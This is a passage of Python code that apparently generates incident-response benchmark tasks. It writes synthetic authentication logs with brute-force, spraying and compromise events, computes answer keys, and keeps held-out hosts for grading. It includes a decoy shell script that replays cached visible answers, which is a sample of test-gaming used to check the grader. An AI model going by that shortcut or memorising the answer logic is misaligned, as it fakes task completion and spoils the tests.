        e = dict(t=t, src=src, kind=kind, ip=ip, user=user, **kw)
        self.ev.append(e)
        return e

    def sshd_src(self) -> str:
        """A source that logs sshd's own messages (key fingerprints)."""
        return self.rng.choice([s for s in self.ssh if s != "audit"])

    def ssh_src(self, exclude=()) -> str:
        c = [s for s in self.ssh if s not in exclude] or self.ssh
        return self.rng.choice(c)

    def any_src(self) -> str:
        return self.rng.choice(self.ssh + (["web"] if self.web else []))

    def user_for(self, src) -> str:
        return self.rng.choice(self.webusers if src == "web" else self.users)

    def burst(self, ip, n, t0, span, src=None, users=None):
        """n failures from ip within span seconds from t0 (each on src, or a random source of the instance)."""
        times = sorted([t0] + [t0 + timedelta(seconds=self.rng.randint(1, span)) for _ in range(n - 1)])
        out = []
        s0 = src or self.any_src()
        for i, t in enumerate(times):
            s = s0 if (src or i % 3 == 0) else self.any_src()
            if s == "web" and ":" in ip:
                s = self.ssh_src()
            u = users[i % len(users)] if users else (self.user_for(s) if s == "web" else self.rng.choice(
                ["root"] + self.users[:2] if s == "audit" else PROBES + self.users[:2]))
            out.append(self.add(t, s, "fail", ip, u, port=self.rng.randint(30000, 65000)))
        return out

    def folded_burst(self, ip, t0, src, total, user="root"):
        """Failures on one connection, rsyslog-folded: each run is one line plus `message repeated k times`,
        until `total` failures."""
        port, p, t, out = self.rng.randint(30000, 65000), self.spid(), t0, []
        while len(out) < total:
            t = t.replace(microsecond=self.rng.randint(1, 999999))
            out.append(self.add(t, src, "fail", ip, user, port=port, pid=p))
            k = self.rng.randint(2, 4)
            t += timedelta(seconds=self.rng.randint(4, 15))
            t = t.replace(microsecond=self.rng.randint(1, 999999))
            for _ in range(k):
                out.append(self.add(t, src, "fail", ip, user, port=port, pid=p, folded=k))
            out[-k]["fold_head"] = k
            t += timedelta(seconds=self.rng.randint(4, 15))
        return out

    # -- the story ------------------------------------------------------------------------------------------
    def build(self):
        r, P, N = self.rng, self.P, self.names
        start, end = P["start"], P["end"]
        T, W, U, NF = P["T"], P["W"], P["U"], P["NF"]
        span = W * 60 - 90
        self.users = r.sample(USERS, 6)
        self.uid = {u: 1001 + i for i, u in enumerate(self.users)}
        self.keys = {u: f"SHA256:{r.getrandbits(200):x}"[:50] for u in self.users}
        self.webusers = r.sample(WEB_USERS, 4)
        office = ZoneInfo(P["office"])
        h1, h2 = P["hours"]

        def work_time():
            for _ in range(200):
                t = self.t(start, end)
                lt = t.astimezone(office)
                if lt.weekday() < 5 and h1 <= lt.hour < h2 - 1:
                    return t
            return self.t(start, end)

        # benign: logins with the users' own keys or passwords, sudo, typos, web sessions
        for _ in range(r.randint(14, 20)):
            u, src = r.choice(self.users), self.ssh_src()
            t = work_time()
            ip = self.ip("int")
            pk = r.random() < 0.7
            self.add(t, src, "accept", ip, u, method="publickey" if pk else "password", fp=self.keys[u] if pk else "")
            if r.random() < 0.4:
                self.add(t + timedelta(seconds=r.randint(30, 900)), src, "sudo", "", u, cmd=r.choice(CMDS))
        for _ in range(r.randint(2, 3)):  # a typo or two, then in: never a compromise (fewer than NF failures)
            u, src, ip = r.choice(self.users), self.ssh_src(), self.ip("int")
            t = work_time()
            for k in range(r.randint(1, NF - 1)):
                self.add(t + timedelta(seconds=4 * k), src, "fail", ip, u)
            self.add(t + timedelta(seconds=30), src, "accept", ip, u, method="password", fp="")
        if self.web:
            for _ in range(r.randint(4, 7)):
                u, ip, t = r.choice(self.webusers), self.ip("int"), work_time()
                self.add(t, "web", "challenge", ip, "-")
                for k in range(r.randint(1, 5)):
                    self.add(t + timedelta(seconds=2 + 40 * k), "web", "accept", ip, u)
            mon = self.ip()  # a misconfigured uptime checker without credentials: 401 challenges, never a failure
            t = self.t(start + timedelta(hours=1), end - timedelta(hours=3))
            stop = t + timedelta(minutes=r.randint(50, 80))
            while t < stop:
                self.add(t, "web", "challenge", mon, "-")
                t += timedelta(seconds=r.randint(25, 60))
        for _ in range(r.randint(10, 20)):
            self.noise.append((self.t(start, end), self.ssh_src(), "cron"))
        if self.web:
            for _ in range(r.randint(20, 35)):
                self.noise.append((self.t(start, end), "web", "static"))

        third = (end - start) / 3
        att_v6 = "mapped_v4" in N or r.random() < 0.35

        if "brute_force" in N:
            a0 = self.ip()
            t0 = self.t(start + timedelta(minutes=20), start + third - timedelta(minutes=W))  # the oldest log
            self.burst(a0, T, t0, span)  # exactly at the threshold
            a1 = self.ip("v6") if att_v6 and not self.web and "repeated" not in N else self.ip()
            t1 = self.t(start + third, end - timedelta(hours=2))
            if "tz_dst" in N:
                t1 = P["dst"] - timedelta(seconds=r.randint(60, span // 2))  # across the clock change
            if "year_rollover" in N:
                t1 = P["newyear"] - timedelta(seconds=r.randint(60, span // 2))
            src1 = "syslog" if {"tz_dst", "year_rollover"} & N else None
            if self.mapped and len(self.ssh + ["web"] * self.web) > 1 and ":" not in a1:
                src1 = None
            self.burst(a1, r.randint(T + 1, T + 10), t1, span, src=src1)
            b0 = self.ip()  # below the threshold in every window, above it in total
            tb = self.t(start + timedelta(hours=1), end - timedelta(hours=6))
            self.burst(b0, T - 1, tb, span)
            self.burst(b0, r.randint(2, T - 1), tb + timedelta(minutes=W + r.randint(30, 200)), span)
            if "repeated" in N:
                src = next(s for s in self.ssh if s in ("syslog", "iso"))
                rr = self.ip()
                self.folded_burst(rr, self.t(start + timedelta(hours=1), end - timedelta(hours=3)), src, T)
        if "spray" in N:
            s0 = self.ip()
            n = r.randint(U, T - 1)
            src = self.any_src()
            self.burst(s0, n, self.t(start + timedelta(minutes=30), end - timedelta(hours=1)), span, src=src,
                       users=r.sample(PROBES + self.users, n) if src != "web" else r.sample(WEB_USERS + PROBES[:4], n))
            d0 = self.ip()  # U-1 accounts, twice each: many attempts, too few accounts
            accts = r.sample(PROBES, U - 1)
            self.burst(d0, 2 * (U - 1), self.t(start + timedelta(minutes=30), end - timedelta(hours=1)), span,
                       src=self.ssh_src(), users=accts + accts)
        if "compromise" in N:
            c0 = self.ip()
            src = self.ssh_src()
            if "repeated" in N and "brute_force" not in N:
                src = next(s for s in self.ssh if s in ("syslog", "iso"))
            tc = self.t(start + (third if "rotation" not in N else timedelta(minutes=40)),
                        start + third * (1 if "rotation" in N else 2))
            victim = r.choice(self.users)
            if "repeated" in N and "brute_force" not in N:
                fs = self.folded_burst(c0, tc, src, 2, user=victim)
                fs = fs if len(fs) >= NF else fs + self.burst(c0, NF - len(fs), fs[-1]["t"] + timedelta(seconds=9), 60, src=src, users=[victim])
            else:
                fs = self.burst(c0, r.randint(NF, NF + 2), tc, min(span, 600), src=src, users=[victim, "root"])
            tin = max(e["t"] for e in fs) + timedelta(seconds=r.randint(20, 300))
            self.add(tin, src, "accept", c0, victim, method="password", fp="")
            if "sudo" in N:
                self.add(self.t(start, tin - timedelta(hours=1)), src, "sudo", "", victim, cmd=r.choice(CMDS))
                tt = tin
                for cmd in r.sample(EVIL, r.randint(2, 3)):
                    tt += timedelta(seconds=r.randint(30, 400))
                    self.add(tt, src, "sudo", "", victim, cmd=cmd)
            if self.web:  # a web account falls as well
                c1 = self.ip()
                wu = r.choice(self.webusers)
                t = self.t(start + timedelta(hours=1), end - timedelta(hours=2))
                self.add(t, "web", "challenge", c1, "-")
                fs = self.burst(c1, r.randint(NF, NF + 3), t + timedelta(seconds=3), 300, src="web", users=[wu, "admin"])
                tw = max(e["t"] for e in fs) + timedelta(seconds=r.randint(5, 120))
                for k in range(r.randint(2, 4)):
                    self.add(tw + timedelta(seconds=15 * k), "web", "accept", c1, wu)
            o0, ou = self.ip("int"), r.choice(self.users)  # in first, then NF failures later: not a compromise
            t = self.t(start + timedelta(hours=1), end - timedelta(hours=3))
            src = self.ssh_src()
            self.add(t, src, "accept", o0, ou, method="publickey", fp=self.keys[ou])
            self.burst(o0, NF + 1, t + timedelta(minutes=r.randint(20, 90)), 300, src=src, users=[ou])
        if "off_hours" in N:
            for _ in range(r.randint(2, 3)):  # nights and weekends, office time
                for _ in range(300):
                    t = self.t(start, end)
                    lt = t.astimezone(office)
                    if not (lt.weekday() < 5 and h1 <= lt.hour < h2):
                        break
                u = r.choice(self.users)
                self.add(t, self.ssh_src(), "accept", self.ip("int"), u, method="publickey", fp=self.keys[u])
            for want_weekend in (True, False):  # inside the hours on a weekend; just before opening on a weekday
                for _ in range(400):
                    t = self.t(start, end)
                    lt = t.astimezone(office)
                    if want_weekend and lt.weekday() >= 5 and h1 <= lt.hour < h2:
                        break
                    if not want_weekend and lt.weekday() < 5 and lt.hour == h1 - 1:
                        break
                else:
                    continue
                u = r.choice(self.users)
                self.add(t, self.ssh_src(), "accept", self.ip("int"), u, method="publickey", fp=self.keys[u])
        if "unknown_key" in N:
            u1, u2 = r.sample(self.users, 2)
            self.add(self.t(start, end), self.sshd_src(), "accept", self.ip(), u1, method="publickey",
                     fp=f"SHA256:{r.getrandbits(200):x}"[:50])
            self.add(self.t(start, end), self.sshd_src(), "accept", self.ip("int"), u2, method="publickey",
                     fp=self.keys[u1])  # a colleague's key: on file, but not for this account
        if "allowlist" in N:
            self.allow = [P["scan_net"], f"{self.ip('int').rsplit('.', 1)[0]}.0/24"]
            net = ipaddress.ip_network(P["scan_net"])
            hosts = list(net.hosts())
            sc = [str(hosts[r.randint(0, 200)]), str(hosts[r.randint(300, len(hosts) - 1)])]
            t = self.t(start + timedelta(hours=1), end - timedelta(hours=2))
            src = self.ssh_src()
            self.burst(sc[0], T + r.randint(3, 8), t, span, src=src, users=r.sample(PROBES + self.users, U + 2))
            self.burst(sc[1], T + r.randint(1, 4), self.t(start + timedelta(hours=1), end - timedelta(hours=2)),
                       span, src=self.ssh_src(), users=r.sample(PROBES + self.users, U + 1))
            tin = self.t(t + timedelta(seconds=span + 120), end)
            self.add(tin, src, "accept", sc[1], "svc-scan", method="password", fp="")  # the scanner's own account

        # every truth list must be non-empty (the checks read its fields from the first entry)
        self.ev.sort(key=lambda e: (e["t"], e["src"], e["kind"], e["ip"], e["user"]))

    # -- truth ----------------------------------------------------------------------------------------------
    def truth(self) -> dict:
        P, N = self.P, self.names
        ev = [e for e in self.ev if e["kind"] in ("fail", "accept", "sudo")]
        if "allowlist" in N:
            nets = [ipaddress.ip_network(n) for n in self.allow]
            ev = [e for e in ev if not (e["ip"] and any(ipaddress.ip_address(e["ip"]) in n for n in nets))]
        S = lambda t: t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
        src = lambda e: "web" if e["src"] == "web" else "ssh"  # noqa: E731
        key = lambda e: (e["t"], src(e), e["kind"], e["ip"], e["user"], e.get("fp") or e.get("cmd") or "")  # noqa: E731
        ev.sort(key=key)
        fails: dict[str, list] = {}
        for e in ev:
            if e["kind"] == "fail":
                fails.setdefault(e["ip"], []).append(e)
        Wd = timedelta(minutes=P["W"])
        T, U, NF = P["T"], P["U"], P["NF"]
        F = {}
        if "brute_force" in N:
            out = []
            for ip, es in sorted(fails.items()):
                ts = [e["t"] for e in es]
                if any(ts[i + T - 1] - ts[i] < Wd for i in range(len(ts) - T + 1)):
                    out.append({"ip": ip, "first_seen": S(ts[0]), "failures": len(ts)})
            F["brute_force"] = sorted(out, key=lambda a: (a["first_seen"], a["ip"]))
        if "spray" in N:
            out = []
            for ip, es in sorted(fails.items()):
                if any(len({x["user"] for x in es[i:] if x["t"] - es[i]["t"] < Wd}) >= U for i in range(len(es))):
                    out.append({"ip": ip, "first_seen": S(es[0]["t"]), "accounts": len({x["user"] for x in es})})
            F["spraying"] = sorted(out, key=lambda a: (a["first_seen"], a["ip"]))
        comp = []
        if "compromise" in N:
            done = set()
            for e in ev:
                if e["kind"] == "accept" and (e["user"], e["ip"]) not in done:
                    if sum(1 for x in fails.get(e["ip"], []) if x["t"] < e["t"]) >= NF:
                        done.add((e["user"], e["ip"]))
                        comp.append({"user": e["user"], "ip": e["ip"], "time": S(e["t"])})
            comp.sort(key=lambda c: (c["time"], c["user"], c["ip"]))
            F["compromised"] = comp
        if "sudo" in N:
            since = {}
            for c in comp:
                since.setdefault(c["user"], c["time"])
            F["sudo_after_compromise"] = [{"user": e["user"], "time": S(e["t"]), "command": e["cmd"]} for e in ev
                                          if e["kind"] == "sudo" and e["user"] in since and S(e["t"]) >= since[e["user"]]]
        if "off_hours" in N:
            office, (h1, h2) = ZoneInfo(P["office"]), P["hours"]
            def working(t):
                lt = t.astimezone(office)
                return lt.weekday() < 5 and h1 <= lt.hour < h2
            F["off_hours_logins"] = [{"user": e["user"], "ip": e["ip"], "time": S(e["t"])} for e in ev
                                     if src(e) == "ssh" and e["kind"] == "accept" and not working(e["t"])]
        if "unknown_key" in N:
            known = {(u, fp) for u, fp in self.keys.items()}
            F["unknown_keys"] = [{"user": e["user"], "ip": e["ip"], "time": S(e["t"]), "fingerprint": e["fp"]}
                                 for e in ev if src(e) == "ssh" and e["kind"] == "accept" and e.get("fp")
                                 and (e["user"], e["fp"]) not in known]
        out = {"findings": F}
        bad = sorted({a["ip"] for k in ("brute_force", "spraying", "compromised") for a in F.get(k, [])},
                     key=lambda s: (ipaddress.ip_address(s).version, ipaddress.ip_address(s)))
        if "blocklist" in N:
            out["blocklist"] = bad
        if "timeline" in N:
            out["timeline"] = sorted([S(e["t"]), src(e), e["ip"], e["user"], "failed" if e["kind"] == "fail" else "accepted"]
                                     for e in ev if e["kind"] in ("fail", "accept") and e["ip"] in set(bad))
        empty = [k for k, v in F.items() if not v] + [k for k in ("blocklist", "timeline") if k in out and not out[k]]
        if empty:
            raise Resample(f"empty truth lists: {empty}")
        return out

    # -- files ----------------------------------------------------------------------------------------------
    def _shown_ip(self, e) -> str:
        ip = e["ip"]
        if self.mapped and e["src"] == self.mapped and ip and ":" not in ip:
            return "::ffff:" + ip
        return ip

    def _msgs(self, e) -> list[str]:
        """The sshd/sudo messages one event writes (prog, message)."""
        r, ip, u = self.rng, self._shown_ip(e), e["user"]
        port = e.get("port") or r.randint(30000, 65000)
        if e["kind"] == "fail":
            valid = u in self.users or u == "root" or u in SERVICE
            if e.get("folded"):
                return []
            if not valid:
                return [f"Invalid user {u} from {ip} port {port}", "pam_unix(sshd:auth): check pass; user unknown",
                        f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}",
                        f"Failed password for invalid user {u} from {ip} port {port} ssh2"]
            return [f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={u}",
                    f"Failed password for {u} from {ip} port {port} ssh2"]
        if e["kind"] == "accept":
            uid = self.uid.get(u, 990)
            how = (f"Accepted publickey for {u} from {ip} port {port} ssh2: ED25519 {e['fp']}" if e.get("fp")
                   else f"Accepted password for {u} from {ip} port {port} ssh2")
            return [how, f"pam_unix(sshd:session): session opened for user {u}(uid={uid}) by (uid=0)"]
        return []

    def _audit(self, rows, e):
        """auditd records (enriched format) of one event: the rows are (time, prog, pid, line, None)."""
        r, u, ip = self.rng, e["user"], self._shown_ip(e) if e.get("ip") else ""
        pid, uid = self.spid(), self.uid.get(u, 0 if u == "root" else 990)

        def rec(kind, body, dt=0):
            t = e["t"] + timedelta(milliseconds=dt)
            ep = (t - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(milliseconds=1)
            rows.append((t, "audit", pid, f"type={kind} msg=audit({ep // 1000}.{ep % 1000:03d}:@SERIAL@): {body}", None))

        sshd = 'exe="/usr/sbin/sshd" hostname={h} addr={a} terminal={term} res={res}'
        if e["kind"] == "fail":
            rec("USER_AUTH", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication "
                f"grantors=? acct=\"{u}\" " + sshd.format(h=ip, a=ip, term="ssh", res="failed") + "'UID=\"root\" AUID=\"unset\"")
        elif e["kind"] == "accept":
            ses = r.randint(1, 900)
            if not e.get("method") == "publickey":
                rec("USER_AUTH", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:"
                    f"authentication grantors=pam_unix acct=\"{u}\" " + sshd.format(h=ip, a=ip, term="ssh", res="success")
                    + "'UID=\"root\" AUID=\"unset\"", dt=-r.randint(100, 900))
            rec("USER_ACCT", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:accounting "
                f"grantors=pam_unix acct=\"{u}\" " + sshd.format(h=ip, a=ip, term="ssh", res="success")
                + "'UID=\"root\" AUID=\"unset\"", dt=-r.randint(50, 99))
            rec("USER_LOGIN", f"pid={pid} uid=0 auid={uid} ses={ses} subj=unconfined msg='op=login id={uid} "
                + sshd.format(h="?", a=ip, term=f"/dev/pts/{r.randint(0, 5)}", res="success")
                + f"'UID=\"root\" AUID=\"{u}\" ID=\"{u}\"")
        elif e["kind"] == "sudo":
            c = e["cmd"]
            cmd = c.encode().hex().upper() if any(ch in c for ch in ' "\'') else f'"{c}"'
            rec("USER_CMD", f"pid={pid} uid={uid} auid={uid} ses={r.randint(1, 900)} subj=unconfined msg='cwd=\"/home/{u}\" "
                f"cmd={cmd} exe=\"/usr/bin/sudo\" terminal=pts/{r.randint(0, 4)} res=success'UID=\"{u}\" AUID=\"{u}\"")
        elif e["kind"] == "cron":
            rec("USER_START", f"pid={pid} uid=0 auid=0 ses={r.randint(1, 900)} subj=unconfined msg='op=PAM:session_open "
                "grantors=pam_loginuid,pam_env,pam_permit,pam_unix acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? "
                "terminal=cron res=success'UID=\"root\" AUID=\"root\"", dt=r.randint(1, 999))

    def _stamp(self, t, src) -> str:
        lt = t.astimezone(self.hostz)
        if src == "syslog":
            return f"{MON[lt.month - 1]} {lt.day:>2} {lt:%H:%M:%S}"
        return lt.isoformat(timespec="microseconds")

    def files(self) -> dict[str, bytes]:
        r, P, N = self.rng, self.P, self.names
        self.meta: list[tuple[str, str | None]] = []  # (line of a line-based log, the address it flags or None)
        out: dict[str, list[tuple]] = {s: [] for s in P["sources"]}
        for e in self.ev:
            s = e["src"]
            if s == "web":
                continue
            if s == "audit":
                self._audit(out[s], e)
                continue
            if e["kind"] == "sudo":
                uid = self.uid[e["user"]]
                msgs = [("sudo", f"   {e['user']} : TTY=pts/{r.randint(0, 4)} ; PWD=/home/{e['user']} ; USER=root ; COMMAND={e['cmd']}"),
                        ("sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {e['user']}(uid={uid})")]
                pid = self.spid()
            elif e["kind"] == "fail" and e.get("fold_head"):
                k, ip = e["fold_head"], self._shown_ip(e)
                msgs = [("sshd", f"message repeated {k} times: [ Failed password for {e['user']} from {ip} port {e['port']} ssh2]")]
                pid = e["pid"]
            else:
                prog = "sshd-session" if s == "journal" and r.random() < 0.5 else "sshd"
                msgs = [(prog, m) for m in self._msgs(e)]
                pid = e.get("pid") or self.spid()
            for prog, m in msgs:
                out[s].append((e["t"], prog, pid, m, e["ip"] if m.startswith("Failed ") else None))
        for t, s, kind in self.noise:
            if kind == "cron" and s == "audit":
                self._audit(out[s], {"t": t, "kind": "cron", "user": "root", "ip": ""})
            elif kind == "cron":
                p = self.spid()
                out[s].append((t, "CRON", p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", None))
                out[s].append((t + timedelta(seconds=r.randint(1, 40)), "CRON", p, "pam_unix(cron:session): session closed for user root", None))
        files: dict[str, bytes] = {}
        for s in self.ssh:
            rows = sorted(out[s], key=lambda x: x[0])
            if s == "audit":
                n0 = r.randint(400, 9000)  # record serials grow with time
                files["audit.log"] = "".join(m.replace("@SERIAL@", str(n0 + i)) + "\n"
                                             for i, (t, prog, pid, m, _) in enumerate(rows)).encode()
                continue
            if s == "journal":
                text = "".join(json.dumps({"__REALTIME_TIMESTAMP": str((t - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)),
                                           "_HOSTNAME": self.host + "-b", "SYSLOG_IDENTIFIER": prog, "_PID": str(pid),
                                           "PRIORITY": "6", "SYSLOG_FACILITY": "10", "MESSAGE": m}) + "\n"
                               for t, prog, pid, m, _ in rows)
                files["journal.json"] = text.encode()
                continue
            lines = [(t, f"{self._stamp(t, s)} {self.host} {prog}[{pid}]: {m}") for t, prog, pid, m, _ in rows]
            self.meta += [(l, h) for (t, l), row in zip(lines, rows) for h in [row[4]]]
            self._rotated(files, "auth.log", lines)
        if self.web:
            lines = []
            for e in self.ev:
                if e["src"] != "web":
                    continue
                lt = e["t"].astimezone(self.hostz)
                st = {"fail": 401, "challenge": 401, "accept": r.choice([200, 200, 200, 304])}[e["kind"]]
                path = P["prefix"] + r.choice(["", "api/health", "dashboard", "users", "settings"])
                size = 195 if st == 401 else r.randint(300, 9000)
                lines.append((e["t"], f'{self._shown_ip(e)} - {e["user"]} [{lt:%d/%b/%Y:%H:%M:%S %z}] "GET {path} HTTP/1.1" '
                                      f'{st} {size} "-" "{r.choice(UAS)}"'))
                self.meta.append((lines[-1][1], e["ip"] if e["kind"] == "fail" else None))
            for t, s, kind in self.noise:
                if s == "web":
                    lt = t.astimezone(self.hostz)
                    path = r.choice(["/", "/static/app.css", "/static/app.js", "/favicon.ico", "/login", "/robots.txt"])
                    lines.append((t, f'{self.ip("int")} - - [{lt:%d/%b/%Y:%H:%M:%S %z}] "GET {path} HTTP/1.1" 200 '
                                     f'{r.randint(200, 5000)} "-" "{r.choice(UAS)}"'))
            lines.sort(key=lambda x: x[0])
            self._rotated(files, "access.log", lines)
        if "allowlist" in N:
            files["allowlist.txt"] = (f"# our own infrastructure: never attackers\n{self.allow[0]}   # vulnerability scanner\n"
                                      f"{self.allow[1]}   # backup network\n").encode()
        if "unknown_key" in N:
            files["known_keys.txt"] = ("# account  fingerprint  type  comment\n" + "".join(
                f"{u} {fp} ED25519 {u}@laptop\n" for u, fp in sorted(self.keys.items()))).encode()
        zone = P["zone"] if "tz_dst" in N else "Etc/UTC"
        files["timedatectl.txt"] = (f"               Local time: (collected {P['end']:%Y-%m-%d})\n"
                                    f"                Time zone: {zone}\n"
                                    "System clock synchronized: yes\n              NTP service: active\n").encode()
        return files

    def _rotated(self, files, name, lines):
        if "rotation" in self.names:
            third = (self.P["end"] - self.P["start"]) / 3
            b1, b2 = self.P["start"] + third, self.P["start"] + 2 * third
            parts = [[l for t, l in lines if t < b1], [l for t, l in lines if b1 <= t < b2], [l for t, l in lines if t >= b2]]
            files[f"{name}.2.gz"] = gzip.compress(("\n".join(parts[0]) + "\n").encode(), mtime=0)
            files[f"{name}.1"] = ("\n".join(parts[1]) + "\n").encode()
            files[name] = ("\n".join(parts[2]) + "\n").encode()
        else:
            files[name] = ("\n".join(l for t, l in lines) + "\n").encode()


def _world(rng, P, names, host):
    w = World(rng, P, names, host)
    w.build()
    truth = w.truth()
    files = w.files()
    if "fail2ban" in names:  # held-out lines for the filter: the failures and the lines that look like them
        pos = [[l, h] for l, h in w.meta if h]
        neg = [[l, h] for l, h in w.meta if not h]
        hard = [x for x in neg if any(k in x[0] for k in ("rhost=", "Invalid user", "message repeated", " 401 ", "Accepted"))]
        rest = [x for x in neg if x not in hard]
        cases = rng.sample(pos, min(len(pos), 24)) + rng.sample(hard, min(len(hard), 24)) + rng.sample(rest, min(len(rest), 8))
        truth["filter"] = sorted([x for x in cases if "message repeated" not in x[0]])
    return files, truth


# ---------------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class HuntLevel(LevelConfig):
    sources: tuple[int, int] = (1, 1)
    detectors: tuple[int, int] = (2, 2)
    traps: tuple[int, int] = (0, 1)
    deliverables: tuple[int, int] = (0, 1)
    hints: bool = False  # easy: the ticket names each indicator and flags the traps present
    runbook: bool = False  # hard: definitions live in /srv/ir/RUNBOOK.md; the ticket states the goal


def _transition(zone: str, year: int) -> datetime:
    """The spring-forward instant (UTC) of a zone in a year."""
    z = ZoneInfo(zone)
    t = datetime(year, 2, 15, tzinfo=UTC)
    prev = t.astimezone(z).utcoffset()
    while True:
        t += timedelta(hours=1)
        off = t.astimezone(z).utcoffset()
        if off > prev:
            return t
        prev = off


@register
class AuthLogIntrusion(KitFamily):
    name = "auth_log_intrusion"
    category = "security"
    description = ("Hunt intrusions in collected authentication logs with a reusable triage program: log sources, "
                   "indicators, traps and deliverables composed per instance; held-out logs in the tests.")
    base_image = "termigen/core:1"
    levels = {
        "easy": HuntLevel(components=(4, 5), sources=(1, 1), detectors=(2, 2), traps=(1, 1), deliverables=(0, 1),
                          hints=True),
        "medium": HuntLevel(components=(5, 8), sources=(1, 2), detectors=(2, 3), traps=(1, 2), deliverables=(1, 1)),
        "hard": HuntLevel(components=(7, 10), sources=(2, 3), detectors=(3, 3), traps=(2, 3), deliverables=(1, 1),
                          runbook=True),
    }

    def draft(self, rng: random.Random, cfg: HuntLevel) -> Draft:
        names, P = self._compose(rng, cfg)
        logdir = f"/srv/evidence/{P['host']}"
        files, truth = _world(random.Random(rng.random()), P, set(names), P["host"])
        hidden = []
        for h in rng.sample([x for x in HOSTS if x != P["host"]], 2):
            hf, ht = _world(random.Random(rng.random()), P, set(names), h)
            hidden.append({"host": h, "files": {k: _pack(v) for k, v in sorted(hf.items())}, "truth": ht})
        if any(h["truth"] == truth for h in hidden):
            raise Resample("a held-out world has the visible truth")

        # Oracle and decoys: every candidate wrong fix and skip is run here; only those known to miss ship.
        comps = _pieces(names, P)
        head, tail = _head(logdir, P), _tail(logdir)
        sol, made = oracle_and_decoys(comps, head=head, tail=tail, max_decoys=100)
        worlds = [(files, truth)] + [({k: _unpack(v) for k, v in h["files"].items()}, h["truth"]) for h in hidden]
        if not _passes(sol, worlds, P["fmt"], strict=True):
            raise AssertionError(f"auth_log_intrusion: the oracle misses its own truth ({names})")
        keep: dict[str, list[str]] = {}
        which = {f"{c.name}_{w}"[:60]: (c.name, w) for c in comps for w in c.wrong}
        for d in made:
            if _passes(d.script, worlds, P["fmt"]):
                if d.name.startswith("skips_"):
                    raise Resample(f"{d.name} would pass: the component does not bite")
                continue
            if d.name in which:
                keep.setdefault(which[d.name][0], []).append(which[d.name][1])
        comps = _pieces(names, P, keep)
        extra = [Decoy(name="replays_visible_answer", description="a hunt that copies this host's findings: right "
                       "here, wrong on every other host", script=sol + dedent(f"""
                    mkdir -p /srv/ir/.cache && cp /srv/ir/out/* /srv/ir/.cache/
                    printf '#!/bin/sh\\nmkdir -p "$2" && cp /srv/ir/.cache/* "$2"/\\n' > {PROG}
                    chmod 755 {PROG}
                """))]
        solution, decoys = oracle_and_decoys(comps, head=head, tail=tail, extra=extra, rng=rng, max_decoys=6)
        assert solution == sol

        env_files = {f"{logdir}/{k}": File.of(v) for k, v in sorted(files.items())}
        rules = self._rules(P, names, cfg)
        if cfg.runbook:
            env_files["/srv/ir/RUNBOOK.md"] = File.of(self._runbook(P, names, rules))
        tests = self._tests(P, names, truth, hidden)
        return Draft(
            instruction=self._instruction(rng, P, names, cfg, logdir, rules),
            environment=Environment(base_image=self.base_image, files=env_files, workdir="/srv/ir"),
            solution=solution,
            tests={"test_outputs.py": tests},
            decoys=decoys,
            outputs=["/srv/ir"],
            tools=sorted(tools_in(solution) | {"python3"}),
            tags=["forensics", "incident-response", "logs", "ssh"] + sorted({TAGS[n] for n in names if n in TAGS}),
            expert_time_min=10 + 5 * len(names),
            junior_time_min=25 + 12 * len(names),
            timeouts=Timeouts(agent_sec=900 + 300 * len(names), verifier_sec=180),
            components=sorted(names),
        )

    # -- the draw ---------------------------------------------------------------------------------------------
    def _compose(self, rng, cfg: HuntLevel):
        ns = rng.randint(*cfg.sources)
        first = rng.choice(["syslog", "iso", "journal", "audit"])
        others = [x for x in ("journal", "audit", "web") if x != first]
        srcs = sorted([first] + rng.sample(others, ns - 1), key=SOURCES.index)
        pair = ()
        if cfg.runbook:
            ok = [p for p in INTERACTING if self._allowed(p[0], set(srcs), {p[1]}) and
                  (p[0] != "mapped_v4" or len(srcs) > 1)]
            pair = rng.choice(ok)
        keyless = not set(srcs) & {"syslog", "iso", "journal"}  # audit records carry no key fingerprints
        det = [c.name for c in compose(rng, [Component(d) for d in DETECTORS if not (keyless and d == "unknown_key")],
                                       cfg.detectors,
                                       require=tuple(x for x in pair if x in DETECTORS))]
        if "sudo" in det and "compromise" not in det:  # sudo reads the compromises
            if len(det) < cfg.detectors[1]:
                det.append("compromise")
            else:
                det[det.index("sudo")] = "compromise"
        dset = set(det)
        tpool = [Component(t, excludes={"tz_dst": ("year_rollover",), "year_rollover": ("tz_dst",)}.get(t, ()))
                 for t in TRAPS if self._allowed(t, set(srcs), dset)]
        traps = [c.name for c in compose(rng, tpool, cfg.traps, require=tuple(x for x in pair if x in TRAPS))] \
            if cfg.traps[1] else []
        dpool = [Component(d) for d in DELIVERABLES if (dset & ATTACKS if d != "fail2ban"
                                                        else set(srcs) & {"syslog", "iso", "web"})]
        k = min(rng.randint(*cfg.deliverables), len(dpool))
        dels = [c.name for c in compose(rng, dpool, k)] if k else []
        names = srcs + det + traps + dels
        lo, hi = cfg.components
        if not lo <= len(names) <= hi + 1:
            raise Resample(f"{len(names)} components")

        year = rng.randint(2022, 2025)
        zone = rng.choice(DST_ZONES)
        T, W = rng.randint(7, 10), rng.choice([10, 15, 20, 30])
        P = {"host": rng.choice(HOSTS), "year": year, "zone": zone, "T": T, "W": W, "U": rng.randint(3, 4),
             "NF": rng.randint(3, 5), "prefix": rng.choice(PREFIXES), "fmt": rng.choice(sorted(FMT)),
             "hours": rng.choice([(8, 18), (7, 19), (9, 17), (8, 20)]), "sources": srcs,
             "scan_net": f"10.{rng.randint(61, 99)}.{rng.choice([16, 32, 48, 64])}.0/20"}
        if "tz_dst" in traps:
            P["dst"] = _transition(zone, year)
            start = P["dst"] - timedelta(days=rng.randint(1, 2), hours=rng.randint(0, 12))
            P["office"] = zone
        elif "year_rollover" in traps:
